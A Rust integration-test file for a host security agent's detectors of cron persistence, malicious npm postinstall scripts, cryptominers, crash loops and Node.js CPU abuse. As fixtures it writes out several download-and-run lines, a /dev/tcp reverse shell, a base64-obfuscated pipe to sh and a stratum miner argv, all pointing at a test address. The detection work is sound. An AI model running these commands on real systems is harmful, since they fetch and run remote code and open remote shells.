//! End-to-end tests of the behaviour detectors with the real agent and real files and
//! processes: a cron file gaining a download-and-run line (`cron`), `npm install` of a local
//! package whose postinstall downloads and runs (`npm`), a copy of bash run from `/dev/shm`
//! with a stratum argv burning CPU (`miner`), a program a bash loop restarts each time it is
//! killed, many times a minute (`respawn`; a program the agent killed coming back is in
//! tests/kill.rs), a listening node server burning CPU (`node_abuse`). Each has benign twins
//! that raise nothing: an ordinary cron line, a package with a harmless postinstall, gzip
//! burning CPU from /usr/bin, a program someone else killed once and a loop restarted, a loop
//! whose work ends normally 20 times a second, an idle node server and a node process burning
//! CPU without listening.
//!
//! Every agent here runs in dry-run: `enforce.kill` is on where the test checks the kill
//! policy, and the agent then only logs what it would terminate — nothing is ever killed.
//! Alerts are matched by the pids and paths the tests created.

mod common;

use std::{
    fs,
    os::unix::fs::PermissionsExt,
    path::Path,
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use common::{
    Agent,
    netns::{DE4, TestNet},
    require_root, serial,
};
use serde_json::Value;

fn s(v: &Value) -> &str {
    v.as_str().unwrap_or_default()
}

/// The agent's own table name for this test binary, and dry-run with `kill` as given.
fn enforce(kill: bool) -> String {
    format!(
        "[enforce]\nmode = \"dry-run\"\ntable = \"snt_d{}\"\nkill = {kill}\n",
        std::process::id()
    )
}

/// Processes a test started, each leading its own process group: the groups (the processes
/// and whatever they started) are SIGKILLed and reaped on drop, even when the test fails.
#[derive(Default)]
struct Procs(Vec<Child>);

impl Procs {
    fn spawn(&mut self, cmd: &mut Command) -> u32 {
        use std::os::unix::process::CommandExt;
        let child = cmd
            .process_group(0)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let pid = child.id();
        self.0.push(child);
        pid
    }
}

impl Drop for Procs {
    fn drop(&mut self) {
        for child in &mut self.0 {
            let group = nix::unistd::Pid::from_raw(child.id() as i32);
            let _ = nix::sys::signal::killpg(group, nix::sys::signal::Signal::SIGKILL);
            let _ = child.wait();
        }
    }
}

/// Wait up to 30 s for an alert matching `pred` about the CPU use of `pid`; on timeout the
/// panic shows what the agent saw of that process (its `cpu` events) and its state.
fn wait_cpu_alert(agent: &Agent, what: &str, pid: u32, pred: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(a) = agent.events("alert").into_iter().find(|a| pred(a)) {
            return a;
        }
        if Instant::now() > deadline {
            let cpu: Vec<String> = agent
                .events("cpu")
                .into_iter()
                .filter(|c| c["pid"] == pid)
                .map(|c| format!("{} {}", s(&c["ts"]), c["cpu_pct"]))
                .collect();
            let state = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            panic!(
                "no {what} within 30 s. cpu events of {pid}: {cpu:?}\nstat: {state}\nagent log:\n{}",
                agent.log()
            );
        }
        thread::sleep(Duration::from_millis(200));
    }
}

/// An executable copy of `from` at `to`.
fn copy_exe(from: &str, to: &Path) {
    fs::copy(from, to).unwrap();
    fs::set_permissions(to, fs::Permissions::from_mode(0o755)).unwrap();
}

/// Removes a file on drop (test files outside a temp dir, e.g. in /dev/shm).
struct RemoveOnDrop(std::path::PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0);
    }
}

fn alerts_for(agent: &Agent, anomaly: &str, pid: u32) -> Vec<Value> {
    agent
        .events("alert")
        .into_iter()
        .filter(|a| a["anomaly"] == anomaly && a["pid"] == pid)
        .collect()
}

#[test]
fn cron_file_gaining_a_download_and_run_line_alerts_once_and_ordinary_lines_do_not() {
    if !require_root(
        "cron_file_gaining_a_download_and_run_line_alerts_once_and_ordinary_lines_do_not",
    ) {
        return;
    }
    let _serial = serial();
    let cron = tempfile::tempdir().unwrap();
    let cron_d = cron.path().join("cron.d");
    fs::create_dir(&cron_d).unwrap();
    let crontab = cron.path().join("crontab");
    fs::write(
        &crontab,
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    )
    .unwrap();
    let mut agent = Agent::start_with(
        "",
        &format!(
            "[cron]\npaths = [\"{}\", \"{}\"]\n",
            crontab.display(),
            cron_d.display()
        ),
    );

    // Benign first: an ordinary line in a new file, and one appended to the crontab.
    fs::write(
        cron_d.join("backup"),
        "30 2 * * * root /usr/local/bin/backup --quiet\n",
    )
    .unwrap();
    let mut text = fs::read_to_string(&crontab).unwrap();
    text.push_str("0 4 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n");
    fs::write(&crontab, &text).unwrap();
    // The anomaly: the crontab gains a download piped to a shell (never run: nothing here
    // executes cron lines).
    let evil = "*/5 * * * * root curl -fsSL http://198.51.100.2/i.sh | sh";
    text.push_str(evil);
    text.push('\n');
    fs::write(&crontab, &text).unwrap();

    let path = crontab.display().to_string();
    let alert = agent.wait_for("alert", "cron for the crontab", |a| {
        a["anomaly"] == "cron" && s(&a["detail"]).contains(&path)
    });
    assert_eq!(s(&alert["severity"]), "high", "{alert}");
    assert_eq!(s(&alert["mitre"]["technique"]), "T1053.003", "{alert}");
    assert_eq!(s(&alert["mitre"]["tactic"]), "Persistence", "{alert}");
    assert_eq!(s(&alert["exe"]), path, "{alert}");
    let detail = s(&alert["detail"]);
    assert!(detail.contains(evil), "{alert}");
    assert!(detail.contains("download piped to a shell"), "{alert}");
    assert!(detail.contains("gained 1 suspicious line"), "{alert}");
    assert!(!detail.contains("logrotate"), "{alert}");

    // A reverse shell in a new file of the directory: critical.
    let rev = cron_d.join("sync");
    fs::write(
        &rev,
        "* * * * * root bash -i >& /dev/tcp/198.51.100.2/4444 0>&1\n",
    )
    .unwrap();
    let rev_path = rev.display().to_string();
    let critical = agent.wait_for("alert", "critical cron for the reverse shell", |a| {
        a["anomaly"] == "cron" && s(&a["detail"]).contains(&rev_path)
    });
    assert_eq!(s(&critical["severity"]), "critical", "{critical}");
    // The watcher handles files in order: the ordinary ones were judged before and raised
    // nothing.
    let mine = |agent: &Agent| -> Vec<Value> {
        agent
            .events("alert")
            .into_iter()
            .filter(|a| {
                a["anomaly"] == "cron" && s(&a["detail"]).contains(&*cron.path().to_string_lossy())
            })
            .collect()
    };
    assert_eq!(mine(&agent).len(), 2, "{:?}", mine(&agent));

    // Rewriting the same content, and a restart (snapshots are in the store), report nothing
    // again; a change made while the agent is down is reported at its start.
    fs::write(&crontab, &text).unwrap();
    agent.stop();
    fs::write(
        cron_d.join("late"),
        "@reboot root echo Y3VybCB4fHNo | base64 -d | sh\n",
    )
    .unwrap();
    agent.spawn();
    let late = cron_d.join("late").display().to_string();
    agent.wait_for("alert", "cron for the change made while down", |a| {
        a["anomaly"] == "cron" && s(&a["detail"]).contains(&late)
    });
    thread::sleep(Duration::from_millis(500));
    let all = mine(&agent);
    assert_eq!(all.len(), 3, "reported twice: {all:?}");
}

/// A local package whose `postinstall` runs `script`.
fn fixture(dir: &Path, name: &str, script: &str) {
    fs::create_dir_all(dir.join(name)).unwrap();
    fs::write(
        dir.join(name).join("package.json"),
        serde_json::json!({"name": name, "version": "1.0.0", "scripts": {"postinstall": script}})
            .to_string(),
    )
    .unwrap();
}

/// `npm install --offline ./name` in `project`; returns the npm process's pid.
fn npm_install(project: &Path, cache: &Path, name: &str) -> u32 {
    let child = Command::new("npm")
        .args(["install", "--offline", "--no-audit", "--no-fund"])
        .arg(format!("../{name}"))
        .current_dir(project)
        .env("npm_config_cache", cache)
        .env("npm_config_update_notifier", "false")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "npm install {name}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    pid
}

#[test]
fn npm_install_of_a_package_whose_postinstall_downloads_and_runs_alerts_and_a_harmless_one_does_not()
 {
    if !require_root(
        "npm_install_of_a_package_whose_postinstall_downloads_and_runs_alerts_and_a_harmless_one_does_not",
    ) {
        return;
    }
    let _serial = serial();
    let work = tempfile::tempdir().unwrap();
    let project = work.path().join("app");
    fs::create_dir(&project).unwrap();
    fs::write(
        project.join("package.json"),
        r#"{"name":"app","version":"1.0.0"}"#,
    )
    .unwrap();
    let cache = work.path().join("npm-cache");
    // The harmless one looks like a native build; the evil one's download never runs
    // (`true ||`), but the script carries it.
    fixture(work.path(), "native-fixture", "echo node-gyp rebuild");
    fixture(
        work.path(),
        "evil-fixture",
        "echo installed > ../installed.txt; true || curl -s http://198.51.100.2/p.sh | sh",
    );
    let agent = Agent::start("");

    let benign_pid = npm_install(&project, &cache, "native-fixture");
    let evil_pid = npm_install(&project, &cache, "evil-fixture");
    assert!(
        work.path().join("installed.txt").exists(),
        "the postinstall did not run"
    );

    let alert = agent.wait_for("alert", "npm for evil-fixture", |a| {
        a["anomaly"] == "npm" && s(&a["detail"]).contains("evil-fixture@1.0.0")
    });
    assert_eq!(alert["pid"], evil_pid, "{alert}");
    assert_eq!(s(&alert["severity"]), "high", "{alert}");
    assert_eq!(s(&alert["mitre"]["technique"]), "T1195.002", "{alert}");
    let detail = s(&alert["detail"]);
    assert!(detail.contains("postinstall: echo installed"), "{alert}");
    assert!(detail.contains("download piped to a shell"), "{alert}");
    assert!(detail.contains("threat 0.8"), "{alert}");
    assert!(detail.contains(&*project.to_string_lossy()), "{alert}");
    // Both scans are done (one thread, in order; the second covered both packages).
    let npm: Vec<Value> = agent
        .events("alert")
        .into_iter()
        .filter(|a| a["anomaly"] == "npm" && s(&a["detail"]).contains(&*project.to_string_lossy()))
        .collect();
    assert_eq!(npm.len(), 1, "{npm:?}");
    assert!(alerts_for(&agent, "npm", benign_pid).is_empty());
}

#[test]
fn a_temp_executable_with_a_stratum_argv_burning_cpu_is_a_critical_miner_and_gzip_is_not() {
    if !require_root(
        "a_temp_executable_with_a_stratum_argv_burning_cpu_is_a_critical_miner_and_gzip_is_not",
    ) {
        return;
    }
    let _serial = serial();
    // Low thresholds: on a loaded machine the burner gets a small share of a CPU. Only
    // suspects (temp executables, miner markers) are measured against them.
    let agent = Agent::start_with(
        "cpu_report_percent = 1",
        &format!(
            "[miner]\ncpu_percent = 2\nsustain = \"3s\"\n{}",
            enforce(true)
        ),
    );
    let exe = Path::new("/dev/shm").join(format!("snt-miner-{}", std::process::id()));
    let _rm = RemoveOnDrop(exe.clone());
    copy_exe("/bin/bash", &exe);
    let mut procs = Procs::default();
    // The miner: a busy loop whose argv looks like xmrig's (bash ignores the extra words).
    let miner = procs.spawn(Command::new(&exe).args([
        "-c",
        "while :; do :; done",
        "xm",
        "-o",
        "stratum+tcp://198.51.100.2:3333",
        "--donate-level",
        "1",
    ]));
    // Benign: gzip from /usr/bin burning CPU.
    let gzip =
        procs.spawn(Command::new("/bin/sh").args(["-c", "exec gzip -9 -c /dev/zero > /dev/null"]));

    let high = agent.wait_for("alert", "high miner at exec", |a| {
        a["anomaly"] == "miner" && a["pid"] == miner && a["severity"] == "high"
    });
    let detail = s(&high["detail"]);
    assert!(
        detail.contains(&format!("runs from {}", exe.display())),
        "{high}"
    );
    assert!(detail.contains("stratum+tcp://"), "{high}");
    assert_eq!(s(&high["mitre"]["technique"]), "T1496", "{high}");
    let critical = wait_cpu_alert(&agent, "critical miner alert", miner, |a| {
        a["anomaly"] == "miner" && a["pid"] == miner && a["severity"] == "critical"
    });
    assert!(s(&critical["detail"]).contains("% CPU for"), "{critical}");
    assert!(
        critical["risk"].as_u64().unwrap() > high["risk"].as_u64().unwrap(),
        "{high} {critical}"
    );
    // The kill policy (dry-run: logged, nothing killed): the critical one, not the exec alert.
    let would = |id: &str| {
        agent
            .log()
            .lines()
            .any(|l| l.contains("would terminate") && l.contains(id))
    };
    let deadline = Instant::now() + Duration::from_secs(5);
    while !would(s(&critical["id"])) && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(100));
    }
    assert!(would(s(&critical["id"])), "{}", agent.log());
    assert!(
        !would(s(&high["id"])),
        "a temp executable alone must never be killed"
    );
    // gzip burnt CPU just as long and raised no miner alert.
    assert!(alerts_for(&agent, "miner", gzip).is_empty());
    let gzip_cpu = agent.events("cpu").into_iter().any(|c| c["pid"] == gzip);
    assert!(
        gzip_cpu,
        "gzip never burnt CPU: the benign twin proved nothing"
    );
}

#[test]
fn a_miner_reaching_its_pool_gets_a_decision_on_the_pool() {
    if !require_root("a_miner_reaching_its_pool_gets_a_decision_on_the_pool") {
        return;
    }
    let _serial = serial();
    // The pool: a test host (low-risk country, so no `geo` alert) on a stratum port.
    let _net = TestNet::new("m");
    let agent = Agent::start_with("", &enforce(false));
    let exe = Path::new("/dev/shm").join(format!("snt-pool-{}", std::process::id()));
    let _rm = RemoveOnDrop(exe.clone());
    copy_exe("/bin/bash", &exe);
    let mut procs = Procs::default();
    // It connects from its own process (a brace group, no fork; the test host resets the
    // connection), then waits.
    let script = format!("{{ : < /dev/tcp/{DE4}/3333; }} 2>/dev/null; sleep 60");
    let miner = procs.spawn(Command::new(&exe).args(["-c", &script]));
    let alert = agent.wait_for("alert", "the miner alert pending on its pool", |a| {
        a["anomaly"] == "miner" && a["pid"] == miner && a["state"] == "pending"
    });
    assert_eq!(s(&alert["target_ip"]), DE4, "{alert}");
    let pending = agent.json_lines(&["pending", "--json"]);
    assert!(
        pending
            .iter()
            .any(|p| p["id"] == alert["id"] && p["anomaly"] == "miner" && p["target_ip"] == DE4),
        "{pending:?}"
    );
}

/// The children of `pid`.
fn children(pid: u32) -> Vec<u32> {
    fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
        .unwrap_or_default()
        .split_whitespace()
        .filter_map(|p| p.parse().ok())
        .collect()
}

/// Wait until `parent` has a child running `exe`.
fn child_running(parent: u32, exe: &Path) -> u32 {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let Some(pid) = children(parent)
            .into_iter()
            .find(|c| fs::read_link(format!("/proc/{c}/exe")).is_ok_and(|e| e == exe))
        {
            return pid;
        }
        assert!(
            Instant::now() < deadline,
            "no child of {parent} runs {}",
            exe.display()
        );
        thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_crash_loop_raises_respawn_and_restarts_after_others_kills_or_normal_exits_do_not() {
    if !require_root(
        "a_crash_loop_raises_respawn_and_restarts_after_others_kills_or_normal_exits_do_not",
    ) {
        return;
    }
    let _serial = serial();
    // Orphans of this test are reaped here, never re-parented to the host's init.
    // SAFETY: prctl(PR_SET_CHILD_SUBREAPER, 1) only sets a flag on this process.
    assert_eq!(
        unsafe { libc::prctl(libc::PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) },
        0
    );
    let dir = tempfile::tempdir().unwrap();
    let payload = dir.path().join("snt-payload");
    let flapper = dir.path().join("snt-flapper");
    let worker = dir.path().join("snt-worker");
    for p in [&payload, &flapper, &worker] {
        copy_exe("/bin/sleep", p);
    }
    let sections = format!("{}[respawn]\nmax_spawns = 5\n", enforce(false));
    let agent = Agent::start_with("", &sections);
    let mut procs = Procs::default();
    // Someone else (an admin, a service manager) kills a program a loop restarts: no respawn.
    let loop_pid = procs.spawn(Command::new("/bin/bash").args([
        "-c",
        &format!("while :; do {} 1000; done", payload.display()),
    ]));
    // A loop whose program dies by SIGKILL every 100 ms: a kill loop, 6 restarts > 5.
    let flap_loop = procs.spawn(Command::new("/bin/bash").args([
        "-c",
        &format!(
            "while :; do {} 1000 & sleep 0.1; kill -9 $!; wait; done",
            flapper.display()
        ),
    ]));
    // `while :; do work; done` whose work ends normally 20 times a second: no spawn abuse.
    let benign_loop = procs.spawn(Command::new("/bin/bash").args([
        "-c",
        &format!("while :; do {} 0.05; done", worker.display()),
    ]));
    let first = child_running(loop_pid, &payload);
    thread::sleep(Duration::from_millis(300));
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(first as i32),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    while child_running(loop_pid, &payload) == first {
        assert!(
            Instant::now() < deadline,
            "the loop did not restart the payload"
        );
        thread::sleep(Duration::from_millis(20));
    }
    let flapped = flapper.display().to_string();
    let alert = agent.wait_for("alert", "respawn of the kill loop", |a| {
        a["anomaly"] == "respawn" && a["exe"] == flapped.as_str()
    });
    assert_eq!(s(&alert["severity"]), "high", "{alert}");
    assert_eq!(s(&alert["mitre"]["technique"]), "T1543", "{alert}");
    let detail = s(&alert["detail"]);
    assert!(
        detail.contains("restarted 6 times within a minute after dying by a signal"),
        "{alert}"
    );
    assert!(
        detail.contains(&format!("its parent bash (pid {flap_loop})")),
        "{alert}"
    );
    // Time for the others to do something wrong: the benign loop restarts its worker ~20
    // times a second.
    thread::sleep(Duration::from_secs(2));
    let wrong: Vec<Value> = agent
        .events("alert")
        .into_iter()
        .filter(|a| {
            a["anomaly"] == "respawn"
                && [&payload, &worker]
                    .iter()
                    .any(|p| s(&a["detail"]).contains(&*p.to_string_lossy()))
        })
        .collect();
    assert!(wrong.is_empty(), "{wrong:?}");
    let worker_path = worker.display().to_string();
    let restarts = agent
        .events("exec")
        .into_iter()
        .filter(|e| e["ppid"] == benign_loop && e["filename"] == worker_path.as_str())
        .count();
    assert!(
        restarts > 10,
        "the benign loop restarted its worker {restarts} times"
    );
}

/// A node program listening on an ephemeral loopback port (when `listen`; it then creates
/// `flag`) and burning CPU (when `busy`: 80 ms of every 100 ms).
fn node(listen: bool, busy: bool, flag: &Path) -> Command {
    let mut code = String::new();
    if listen {
        code.push_str(&format!(
            "require('http').createServer((q, r) => r.end('ok')).listen(0, '127.0.0.1', \
             () => require('fs').writeFileSync({:?}, ''));",
            flag.display().to_string()
        ));
    }
    if busy {
        code.push_str(
            "setInterval(() => { const t = Date.now(); while (Date.now() - t < 80) {} }, 100);",
        );
    } else {
        code.push_str("setInterval(() => {}, 1000);");
    }
    let mut cmd = Command::new("node");
    cmd.args(["-e", &code]);
    cmd
}

fn wait_file(path: &Path) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !path.exists() {
        assert!(
            Instant::now() < deadline,
            "{} never appeared",
            path.display()
        );
        thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn a_listening_node_server_burning_cpu_raises_node_abuse_and_its_twins_do_not() {
    if !require_root("a_listening_node_server_burning_cpu_raises_node_abuse_and_its_twins_do_not") {
        return;
    }
    let _serial = serial();
    let dir = tempfile::tempdir().unwrap();
    let flag = |name: &str| dir.path().join(name);
    let mut procs = Procs::default();
    // The idle server starts first and settles (node's start-up burns some CPU): the low
    // threshold below is for a loaded machine, where the busy server gets a small share.
    let idle = procs.spawn(&mut node(true, false, &flag("idle")));
    wait_file(&flag("idle"));
    let agent = Agent::start_with(
        "cpu_report_percent = 1",
        &format!(
            "[node_abuse]\ncpu_percent = 2\nsustain = \"3s\"\n{}",
            enforce(true)
        ),
    );
    let abused = procs.spawn(&mut node(true, true, &flag("abused")));
    let unlistening = procs.spawn(&mut node(false, true, &flag("none")));
    wait_file(&flag("abused"));

    let alert = wait_cpu_alert(&agent, "node_abuse alert", abused, |a| {
        a["anomaly"] == "node_abuse" && a["pid"] == abused
    });
    assert_eq!(s(&alert["severity"]), "high", "{alert}");
    assert_eq!(s(&alert["mitre"]["technique"]), "T1496", "{alert}");
    let detail = s(&alert["detail"]);
    assert!(detail.contains("listening on"), "{alert}");
    assert!(detail.contains("% CPU for"), "{alert}");
    // The busy node that does not listen burnt as long: give it two more intervals.
    thread::sleep(Duration::from_secs(2));
    for pid in [idle, unlistening] {
        assert!(
            alerts_for(&agent, "node_abuse", pid).is_empty(),
            "pid {pid}"
        );
    }
    let busy_seen = agent
        .events("cpu")
        .into_iter()
        .any(|c| c["pid"] == unlistening);
    assert!(busy_seen, "the non-listening twin never burnt CPU");
    // A Node.js server burning CPU is killable (dry-run: logged only).
    assert!(
        agent
            .log()
            .lines()
            .any(|l| l.contains("would terminate") && l.contains(s(&alert["id"]))),
        "{}",
        agent.log()
    );
}
